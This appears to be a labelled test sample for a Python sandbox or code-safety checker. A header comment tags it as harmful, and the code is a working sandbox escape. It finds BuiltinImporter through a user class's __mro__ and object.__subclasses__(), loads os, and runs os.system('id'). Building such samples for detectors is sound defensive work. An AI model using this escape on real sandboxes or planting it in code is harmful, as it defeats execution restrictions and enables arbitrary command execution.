# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: own class's __mro__[-1] (object) used as receiver
class Base:
    pass


for c in Base.__mro__[-1].__subclasses__():
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
